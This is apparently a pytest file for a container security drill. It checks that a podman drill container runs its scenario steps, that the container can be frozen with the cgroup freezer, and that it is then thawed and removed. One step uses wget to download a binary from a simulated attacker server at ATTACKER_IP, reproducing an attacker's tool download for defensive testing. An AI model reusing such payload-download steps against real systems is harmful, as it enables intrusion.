"""The drill's containers (stockade.drill.podman) with real podman: a scenario's setup is done
before its steps run, and a container frozen behind podman's back (as a playbook's freeze does,
with the cgroup freezer) is found frozen, thawed and removed."""

from __future__ import annotations

import os
import shutil

import pytest

from helpers import need
from stockade.drill.podman import Podman
from stockade.drill.scenarios import ATTACKER_IP, HTTP_PORT, select
from stockade.enforce.freeze import freeze, is_frozen
from stockade.sensor.containers.cgroup import cgroup2_dir

pytestmark = [pytest.mark.root, pytest.mark.containers]


def test_setup_then_steps_then_frozen_container_thawed_and_removed() -> None:
    need(os.geteuid() == 0, "needs root")
    need(shutil.which("podman"), "needs podman (apt-get install podman)")
    podman = Podman()
    image = podman.ensure_image()
    c = podman.start(select(["tool-download"])[0], image, labels={"stockade.drill.run": "test"})
    try:
        assert c.name.startswith("stockade-drill-tool-download-") and len(c.id) == 12
        # the attacker's web server is up on the container's loopback (the binary it serves is
        # not text: the step's output is read with replacement characters)
        got = c.exec(["wget", "-q", "-O", "-", f"http://{ATTACKER_IP}:{HTTP_PORT}/tool"])
        assert got.returncode == 0, got.output
        assert c.exec(["ip", "-o", "addr"]).output.count("inet ") == 2  # 127.0.0.1 and the attacker's
        refused = c.exec(["mount", "-t", "tmpfs", "drill", "/mnt"])
        assert refused.returncode != 0 and refused.denied, refused

        pid = c.state()["Pid"]
        assert isinstance(pid, int)
        d = cgroup2_dir(pid)
        assert d is not None
        assert freeze(d).done and c.frozen()
        assert c.thaw_locally() == ["cgroup freezer thawed"]
        assert not is_frozen(d) and not c.frozen()
        assert c.exec(["true"]).returncode == 0
    finally:
        assert c.remove()
    assert c.state() == {}
